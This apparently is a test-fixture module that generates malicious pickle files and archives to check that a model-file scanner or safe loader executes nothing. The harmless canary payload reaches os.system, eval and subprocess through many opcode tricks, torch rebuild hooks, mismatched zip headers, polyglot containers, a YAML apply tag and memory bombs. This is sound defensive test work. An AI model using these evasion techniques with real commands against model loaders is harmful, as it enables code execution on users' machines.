"""Malicious pickles and archives: known ways past scanners and allow-lists, each of which must execute nothing.

Every file tries to create one file, the canary, in a way of its own: other callables, other instructions that name and
call them, other containers, and containers in which two readers see different things.
"""

import base64
import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Sequence
from pathlib import Path

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


def corpus(canary: Path) -> dict[str, bytes]:
    """Return files by what they try; `canary` exists once any of them is executed."""
    pickles = programs(canary)
    found = {f"raw {name}": program for name, program in pickles.items()}
    found |= {f"zip {name}": archive({"archive/data.pkl": program}) for name, program in pickles.items()}
    found |= {f"legacy {name}": legacy(program) for name, program in pickles.items()}
    return found | containers(pickles["os.system REDUCE"], canary)


def programs(canary: Path) -> dict[str, bytes]:
    """Return pickles; most of them create the canary when `pickle.loads` reads them."""
    shell, code = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    calls = {
        "os.system": ("os", "system", [shell]),
        "posix.system": ("posix", "system", [shell]),
        "subprocess.getoutput": ("subprocess", "getoutput", [shell]),
        "subprocess.call": ("subprocess", "call", [["touch", str(canary)]]),
        "subprocess.check_output": ("subprocess", "check_output", [["touch", str(canary)]]),
        "subprocess.Popen": ("subprocess", "Popen", [["touch", str(canary)]]),
        "builtins.eval": ("builtins", "eval", [code]),
        "builtins.exec": ("builtins", "exec", [code]),
        "builtins.open": ("builtins", "open", [str(canary), "w"]),
        "__builtin__.eval": ("__builtin__", "eval", [code]),
        "io.open": ("io", "open", [str(canary), "w"]),
        "io.FileIO": ("io", "FileIO", [str(canary), "w"]),
        "os.open": ("os", "mkdir", [str(canary)]),
        "pathlib.Path.touch": ("pathlib", "Path.touch", [canary]),
        "timeit.timeit": ("timeit", "timeit", [code, "pass", *_tail()]),
        "timeit.main": ("timeit", "main", [["-n1", "-r1", code]]),
        "cProfile.run": ("cProfile", "run", [code]),
        "profile.run": ("profile", "run", [code]),
        "trace": ("trace", "Trace.run", [None, code]),
        "bdb": ("bdb", "Bdb.run", [None, code]),
        "runpy": ("runpy", "run_path", [str(canary)]),
        "code": ("code", "InteractiveInterpreter.runsource", [None, code]),
        "numpy.testing": ("numpy.testing._private.utils", "runstring", [code, {}]),
        "importlib": ("importlib", "import_module", ["antigravity"]),
        "pydoc": ("pydoc", "pipepager", ["text", shell]),
        "pty": ("pty", "spawn", [["touch", str(canary)]]),
        "webbrowser": ("webbrowser", "open", ["http://127.0.0.1:9"]),
        "ctypes": ("ctypes", "CDLL", ["libc.so.6"]),
        "shutil": ("shutil", "copyfile", ["/etc/hostname", str(canary)]),
        "logging": ("logging", "FileHandler", [str(canary)]),
        "tempfile": ("tempfile", "mkdtemp", ["", "", str(canary.parent)]),
        "torch.load": ("torch.serialization", "load", [code]),
        "torch.hub": ("torch.hub", "load", ["someone/repo", "model"]),
        "torch.storage": ("torch.storage", "_load_from_bytes", [b"cos\nsystem\n."]),
        "torch.jit": ("torch.jit", "load", [str(canary)]),
        "torch.utils": ("torch.utils.collect_env", "run", [shell]),
        "pandas": ("pandas", "read_pickle", [str(canary)]),
        "joblib": ("joblib", "load", [str(canary)]),
        "numpy.load": ("numpy", "load", [str(canary), None, True]),
        "dill": ("dill", "loads", [b"cos\nsystem\n."]),
        "pickle.loads": ("pickle", "loads", [_call(b"cos\nsystem\n", [shell])]),
        "_pickle.loads": ("_pickle", "loads", [_call(b"cos\nsystem\n", [shell])]),
        "marshal": ("marshal", "loads", [b"\xe3"]),
        "types.FunctionType": ("types", "FunctionType", [None, {}]),
        "types.CodeType": ("types", "CodeType", [0]),
        "getattr": ("builtins", "getattr", [_Name("os"), "system"]),
        "dotted": ("os", "path.os.system", [shell]),
        "globals": ("collections", "OrderedDict.__init__.__globals__", []),
        "argparse.FileType": ("argparse", "FileType", ["w"]),
        "argparse open": ("argparse", "_sys.modules", []),
        "pathlib os": ("pathlib", "os.system", [shell]),
        "collections namedtuple": ("collections", "namedtuple", ["x", "y"]),
        "torch._utils other": ("torch._utils", "_import_dotted_name", ["os.system"]),
        "space in name": ("os ", "system", [shell]),
        "homoglyph": ("оs", "system", [shell]),
        "no module": ("", "eval", [code]),
    }
    made = {f"{name} REDUCE": _call(_global(*call[:2]), call[2]) for name, call in calls.items()}
    made |= instructions(shell, code)
    return made


def instructions(shell: str, code: str) -> dict[str, bytes]:
    """Return other ways of naming and calling than GLOBAL and REDUCE, and names put where data belong."""
    system, text, code_text = b"cos\nsystem\n", _text(shell), _text(code)
    stacked = _short("os") + _short("system") + b"\x93"
    ordered = b"ccollections\nOrderedDict\n)R"
    storage = b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text("0") + _text("cpu") + b"K\x01tQ"
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n("
    rest = b"K\x00K\x01\x85K\x01\x85\x89" + ordered + b"tR"
    return {
        "STACK_GLOBAL": b"\x80\x04" + stacked + text + b"\x85R.",
        "STACK_GLOBAL from the memo": b"\x80\x04"
        + _short("os")
        + b"\x94"
        + _short("system")
        + b"\x94"
        + b"00"
        b"h\x00h\x01\x93" + text + b"\x85R.",
        "STACK_GLOBAL of unicode": b"\x80\x04" + _text("os") + _text("system") + b"\x93" + text + b"\x85R.",
        "STACK_GLOBAL dotted": b"\x80\x04"
        + _short("os")
        + _short("path.os.system")
        + b"\x93"
        + text
        + b"\x85R.",
        "INST": f"(S{shell!r}\nios\nsystem\n.".encode(),
        "OBJ": b"(" + system + text + b"o.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n" + text + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n" + text + b"\x85}\x92.",
        "REDUCE in a list": b"\x80\x02]" + system + text + b"\x85Ra.",
        "REDUCE in a dictionary": b"\x80\x02}" + _text("model") + system + text + b"\x85Rs.",
        "REDUCE as a key": b"\x80\x02}" + system + text + b"\x85RNs.",
        "REDUCE in a tuple": b"\x80\x02" + system + text + b"\x85R\x85.",
        "REDUCE, forgotten": b"\x80\x02N" + system + text + b"\x85R0.",
        "REDUCE, forgotten to a mark": b"\x80\x02N(" + system + text + b"\x85R1.",
        "REDUCE doubled": b"\x80\x02" + system + b"2" + text + b"\x85R.",
        "REDUCE, the function from the memo": b"\x80\x02" + system + b"q\x050h\x05" + text + b"\x85R.",
        "REDUCE, text instructions": f"cos\nsystem\n(S{shell!r}\ntR.".encode(),
        "REDUCE, protocol 0 memo": f"cos\nsystem\np0\n(S{shell!r}\np1\ntp2\nRp3\n.".encode(),
        "REDUCE, unicode text": f"cos\nsystem\n(V{shell}\ntR.".encode(),
        "REDUCE, framed": b"\x80\x04\x95\x09\0\0\0\0\0\0\0"
        + system[:9]
        + b"\x95\xff\0\0\0\0\0\0\0"
        + system[9:],
        "REDUCE, protocol 5": b"\x80\x05" + system + text + b"\x85R.",
        "REDUCE, protocol 255": b"\x80\xff" + system + text + b"\x85R.",
        "REDUCE, protocol twice": b"\x80\x02\x80\x04" + system + text + b"\x85R.",
        "BUILD of state": b"\x80\x02cargparse\nNamespace\n)\x81}"
        + _text("__setstate__")
        + system
        + b"sb"
        + text
        + b"b.",
        "BUILD of a dictionary": b"\x80\x02"
        + ordered
        + b"}"
        + _text("__setitem__")
        + system
        + b"sb"
        + text
        + b"Ns.",
        "BUILD of append": b"\x80\x02cargparse\nNamespace\n)\x81}"
        + _text("append")
        + system
        + b"sb"
        + text
        + b"a.",
        "BUILD of a function": b"\x80\x02ccollections\nOrderedDict\n}" + _text("__init__") + system + b"sb.",
        "BUILD with slots": b"\x80\x02cargparse\nNamespace\n)\x81N}" + _text("a") + system + b"s\x86b.",
        "EXT1": b"\x80\x02\x82\x01.",
        "EXT2": b"\x80\x02\x83\x01\x01.",
        "EXT4": b"\x80\x02\x84\x01\x01\x01\x01.",
        "copyreg": b"\x80\x02ccopyreg\nadd_extension\n"
        + _text("os")
        + _text("system")
        + b"K\x01\x87R\x82\x01.",
        "copyreg._reconstructor": b"\x80\x02ccopyreg\n_reconstructor\n"
        b"ccollections\nOrderedDict\ncbuiltins\nobject\nN\x87R.",
        "PERSID": b"Pos.system\n.",
        "BINPERSID of a call": b"\x80\x02" + system + text + b"\x85RQ.",
        "BINPERSID naming a function": b"\x80\x02("
        + _text("storage")
        + system
        + _text("0")
        + text
        + b"K\x01tQ.",
        "a storage that is a call": b"\x80\x02" + tensor + system + text + b"\x85R" + rest + b".",
        "an offset that is a call": b"\x80\x02"
        + tensor
        + storage
        + system
        + text
        + b"\x85R"
        + rest[2:]
        + b".",
        "hooks that are calls": b"\x80\x02"
        + tensor
        + storage
        + rest[: -len(ordered) - 2]
        + system
        + text
        + b"\x85RtR.",
        "_rebuild_parameter of a call": b"\x80\x02ctorch._utils\n_rebuild_parameter\n"
        + system
        + text
        + b"\x85R\x89"
        + ordered
        + b"\x87R.",
        "_rebuild_parameter named": b"\x80\x02ctorch._utils\n_rebuild_parameter\n"
        + system
        + b"\x89"
        + ordered
        + b"\x87R"
        + text
        + b"\x85R.",
        "_rebuild_from_type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n("
        + system
        + system
        + text
        + b"\x85NtR.",
        "_rebuild_wrapper": b"\x80\x02ctorch._utils\n_rebuild_wrapper_subclass\n" + system + text + b"\x86R.",
        "_codecs.encode of code": b"\x80\x02cbuiltins\nexec\nc_codecs\nencode\n"
        + code_text
        + _text("latin-1")
        + b"\x86R\x85R.",
        "functools.partial": b"\x80\x02cfunctools\npartial\n" + system + text + b"\x86R)R.",
        "functools.reduce": b"\x80\x02cfunctools\nreduce\n" + system + b"]" + text + b"a\x86R.",
        "operator.methodcaller": b"\x80\x02coperator\nmethodcaller\n"
        + _text("system")
        + text
        + b"\x86Rcimportlib\n"
        b"import_module\n" + _text("os") + b"\x85R\x85R.",
        "operator.attrgetter": b"\x80\x02coperator\nattrgetter\n"
        + _text("system")
        + b"\x85Rcimportlib\nimport_module\n"
        + _text("os")
        + b"\x85R\x85R"
        + text
        + b"\x85R.",
        "builtins.map": b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + system + b"]" + text + b"a\x86R\x85R.",
        "__import__": b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + _text("os")
        + b"\x85R"
        + _text("system")
        + b"\x86R"
        + text
        + b"\x85R.",
        "defaultdict": b"\x80\x02ccollections\ndefaultdict\n" + system + b"\x85R.",
        "Counter of a call": b"\x80\x02ccollections\nCounter\n" + system + text + b"\x85R\x85R.",
        "a second pickle": pickle.dumps({}, 2) + b"\x80\x02" + system + text + b"\x85R.",
        "a pickle before": b"\x80\x02" + system + text + b"\x85R." + pickle.dumps({}, 2),
        "after an error": b"\x80\x02" + system + text + b"\x85R0\xff.",
        "without a stop": b"\x80\x02" + system + text + b"\x85R",
        "base64 of code": b"\x80\x02cbuiltins\nexec\ncbase64\nb64decode\n"
        + _text(base64.b64encode(code.encode()).decode())
        + b"\x85R\x85R.",
        "memory: memo index": b"\x80\x02Nr\xff\xff\xff\x07.",
        "memory: length of bytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b".",
        "memory: length of text": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b".",
        "memory: negative length": b"\x80\x02T\xff\xff\xff\xff.",
        "memory: long": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "memory: frame": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b".",
        "memory: bytearray": b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b".",
        "memory: doubling": b"\x80\x02]" + b"q\x00h\x00h\x00\x86" * 100 + b".",
        "memory: nesting": b"\x80\x02" + b"(" * 900_000 + b".",
        "memory: a list in itself": b"\x80\x02]q\x00h\x00a.",
    }


def containers(program: bytes, canary: Path) -> dict[str, bytes]:
    """Return archives and other wrappers of a malicious pickle in which readers may look elsewhere than a scanner."""
    good = pickle.dumps({}, 2)
    plain = archive({"archive/data.pkl": program})
    twice = archive({"archive/data.pkl": good}, [("archive/data.pkl", program)])
    npy = (
        b"\x93NUMPY\x01\x00v\x00"
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
        + b"\n"
        + program
    )
    evil_header = (
        f"{{'descr': __import__('os').system('touch {canary}'), 'shape': (1,)}}".encode().ljust(200) + b"\n"
    )
    renamed = plain.replace(b"archive/data.pkl", b"archive/dbta.pkl", 1)  # in the local header alone
    central = plain[::-1].replace(b"archive/data.pkl"[::-1], b"archive/dbta.pkl"[::-1], 1)[::-1]
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as members:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(program)
            members.addfile(entry, io.BytesIO(program))
    flags = bytearray(plain)
    flags[6] |= 1
    flags[plain.find(b"PK\x01\x02") + 8] |= 1
    described = bytearray(plain)
    described[6] |= 8
    described[14:26] = bytes(12)
    return {
        "zip deflated": archive({"archive/data.pkl": program}, method=zipfile.ZIP_DEFLATED),
        "zip bzip2": archive({"archive/data.pkl": program}, method=zipfile.ZIP_BZIP2),
        "zip lzma": archive({"archive/data.pkl": program}, method=zipfile.ZIP_LZMA),
        "zip with a member twice": twice,
        "zip with two pickles": archive({"archive/data.pkl": good, "data.pkl": program}),
        "zip, another folder": archive({"../data.pkl": program}),
        "zip, an absolute folder": archive({"/tmp/data.pkl": program}),
        "zip, other case": archive({"archive/DATA.PKL": program}),
        "zip, another extension": archive({"archive/data.bin": program}),
        "zip, another name in the local header": renamed,
        "zip, another name in the directory": central,
        "zip, wrong checksum": plain.replace(plain[14:18], b"\1\2\3\4"),
        "zip, marked as encrypted": bytes(flags),
        "zip, sizes after the data": bytes(described),
        "zip behind other bytes": b"\x80\x02N." + plain,
        "zip before other bytes": plain + program,
        "zip in a zip": archive({"archive/data.pkl": plain}),
        "zip with a comment": plain[:-2] + struct.pack("<H", len(program)) + program,
        "zip of TorchScript": archive(
            {"a/data.pkl": good, "a/constants.pkl": program, "a/code/x.py": b"import os"}
        ),
        "zip of a module": archive({"archive/data.pkl": program, "__main__.py": b"import os"}),
        "npz with an object": archive({"a.npy": npy}),
        "npz with code in a header": archive(
            {"a.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", 201) + evil_header}
        ),
        "npz with a pickle": archive({"a.npy": npy[:128], "data.pkl": program}),
        "npz with a raw pickle as array": archive({"a.npy": program}),
        "npy": npy,
        "tar of old PyTorch": tar.getvalue(),
        "gzip": gzip.compress(program),
        "bzip2": bz2.compress(program),
        "xz": lzma.compress(program),
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + program,
        "rar": b"Rar!\x1a\x07\x01\x00" + program,
        "safetensors before a pickle": struct.pack("<Q", 2) + b"{}" + program,
        "safetensors with a pickle as header": struct.pack("<Q", len(program)) + program,
        "safetensors with a bomb as header": struct.pack("<Q", 2**40) + b"{" + b" " * 100,
        "safetensors with deep brackets": struct.pack("<Q", 100_001) + b"{" + b"[" * 100_000,
        "HDF5": b"\x89HDF\r\n\x1a\n" + program,
        "joblib": b"\x80\x04\x95" + struct.pack("<Q", len(program)) + program,
        "a script": b"#!/bin/sh\ntouch " + str(canary).encode(),
        "Python": f"open({str(canary)!r}, 'w')".encode(),
        "JSON": b'{"__reduce__": ["os.system", "x"]}',
        "YAML": f"!!python/object/apply:os.system ['touch {canary}']".encode(),
        "a legacy header twice": legacy(pickle.dumps({}, 2))[:60] + legacy(program),
        "keys that are a program": legacy(pickle.dumps({}, 2), program),
        "information that is a program": legacy(good, information=program),
    }


def archive(
    members: dict[str, bytes], more: Sequence[tuple[str, bytes]] = (), method: int = zipfile.ZIP_STORED
) -> bytes:
    """Return a zip file; `more` are members whose names may come twice."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as zipped:
        warnings.simplefilter("ignore")
        for name, data in [*members.items(), *more]:
            zipped.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def legacy(program: bytes, keys: bytes = b"", information: bytes = b"") -> bytes:
    """Return a file as `torch.save` wrote it before version 1.6."""
    head = pickle.dumps(MAGIC, 2) + pickle.dumps(PROTOCOL, 2)
    information = information or pickle.dumps({"little_endian": True}, 2)
    program = program if program.startswith(b"\x80") else b"\x80\x02" + program
    return head + information + program + (keys or pickle.dumps([], 2))


class _Name:
    """A module as an argument."""

    def __init__(self, module: str):
        self.module = module

    def __reduce__(self):
        return __import__, (self.module,)


def _tail() -> list[object]:
    import timeit

    return [timeit.default_timer, 1]


def _call(named: bytes, arguments: list[object]) -> bytes:
    return b"\x80\x02" + named + pickle.dumps(tuple(arguments), 2)[2:-1] + b"R."


def _global(module: str, name: str) -> bytes:
    return (
        b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        if "." not in name
        else (_text(module) + _text(name) + b"\x93")
    )


def _text(content: str) -> bytes:
    data = content.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _short(content: str) -> bytes:
    return b"\x8c" + bytes([len(content)]) + content.encode()
